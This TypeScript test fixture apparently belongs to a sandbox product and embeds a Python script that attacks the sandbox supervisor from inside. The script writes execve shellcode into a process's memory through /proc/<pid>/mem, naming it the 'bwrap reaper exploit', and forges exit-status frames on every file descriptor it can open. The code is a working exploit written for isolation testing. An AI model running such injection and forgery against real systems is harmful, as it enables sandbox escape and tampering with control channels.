/**
 * Attacks on the channel between a sandbox's supervisor and the control plane, run by a command
 * inside the sandbox (python3, from the image). Each writes what it managed into a JSON report
 * (`REPORT_PATH`), so that anything it forges on its own stdout cannot be mistaken for the result.
 *
 * Targets are the supervisor (pid 1 on every driver) and its keepers (its other children): the
 * processes that hold the channel, the exit-status pipes and the supervisor's memory.
 */

export const REPORT_PATH = '/tmp/channel-attack.json';
export const SCRIPT_PATH = '/tmp/channel-attack.py';

/**
 * `python3 channel-attack.py inject|frames|status`:
 * - inject: the bwrap reaper exploit. Open /proc/<target>/mem read-write and, on x86_64, write an
 *   execve of `sh -c <forge frames>` at the instruction pointer /proc/<target>/syscall gives; the
 *   target runs it once its system call returns.
 * - frames: open every fd of every target for writing and write supervisor frames on it: exit
 *   reports saying 42 for request ids 1..300, then a malformed one.
 * - status: the gVisor pipe forgery. The same fds, with keeper exit-status reports saying 42.
 * The report lists, per target, what opened (`opened`: fd and what it links to) and what was
 * refused; `stdio` lists what the fds 0-2 of the other processes it can see link to.
 */
export const channelAttackScript = String.raw`
import json, os, platform, struct, sys

mode = sys.argv[1]
report = {"mode": mode, "targets": [], "opened": [], "refused": 0, "injected": [], "stdio": []}

def stat(pid):
    text = open("/proc/%d/stat" % pid).read()
    fields = text[text.rindex(")") + 2:].split()
    return int(fields[1])

pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
parents = {}
for pid in pids:
    try:
        parents[pid] = stat(pid)
    except OSError:
        pass
targets = [1] + [pid for pid, parent in parents.items() if parent == 1 and pid != 1]
report["targets"] = targets
for pid in pids:
    if pid in targets:
        continue
    for fd in (0, 1, 2):
        try:
            report["stdio"].append(os.readlink("/proc/%d/fd/%d" % (pid, fd)))
        except OSError:
            pass

def exited_frame(request_id, code):
    payload = struct.pack("<iiBBBB", code, 0, 0, 0, 0, 0)
    return struct.pack("<IBI", 5 + len(payload), 68, request_id) + payload

def forged_frames():
    frames = b"".join(exited_frame(i, 42) for i in range(1, 301))
    return frames + struct.pack("<IBI", 5, 68, 1)

def shellcode(pc):
    command = b"printf '\\005\\000\\000\\000\\104\\001\\000\\000\\000'; printf 'forged' >&1"
    data_at = pc + 64
    strings = [b"/bin/sh\0", b"-c\0", command + b"\0"]
    addresses, blob = [], b""
    for text in strings:
        addresses.append(data_at + len(blob))
        blob += text
    while len(blob) % 8:
        blob += b"\0"
    argv_at = data_at + len(blob)
    blob += struct.pack("<QQQQ", addresses[0], addresses[1], addresses[2], 0)
    code = (b"\x48\xbf" + struct.pack("<Q", addresses[0]) + b"\x48\xbe" + struct.pack("<Q", argv_at)
            + b"\x31\xd2" + b"\xb8\x3b\x00\x00\x00" + b"\x0f\x05")
    return code.ljust(64, b"\x90") + blob

def inject(pid):
    try:
        mem = os.open("/proc/%d/mem" % pid, os.O_RDWR)
    except OSError:
        report["refused"] += 1
        return
    report["opened"].append({"pid": pid, "fd": "mem", "link": "mem"})
    try:
        pc = int(open("/proc/%d/syscall" % pid).read().split()[-1], 16)
        if platform.machine() == "x86_64":
            os.pwrite(mem, shellcode(pc), pc)
            report["injected"].append(pid)
    except (OSError, ValueError):
        pass

def forge(pid, payload):
    for fd in range(0, 64):
        path = "/proc/%d/fd/%d" % (pid, fd)
        try:
            link = os.readlink(path)
        except OSError:
            link = None
        try:
            opened = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            report["refused"] += 1
            continue
        report["opened"].append({"pid": pid, "fd": fd, "link": link or "?"})
        try:
            os.write(opened, payload)
        except OSError:
            pass
        os.close(opened)

for pid in targets:
    if mode == "inject":
        inject(pid)
    elif mode == "frames":
        forge(pid, forged_frames())
    else:
        forge(pid, struct.pack("<ii", 42 << 8, 0))

with open("${REPORT_PATH}", "w") as out:
    json.dump(report, out)
`;

export interface ChannelAttackReport {
  mode: string;
  targets: number[];
  opened: { pid: number; fd: number | 'mem'; link: string }[];
  refused: number;
  injected: number[];
  stdio: string[];
}
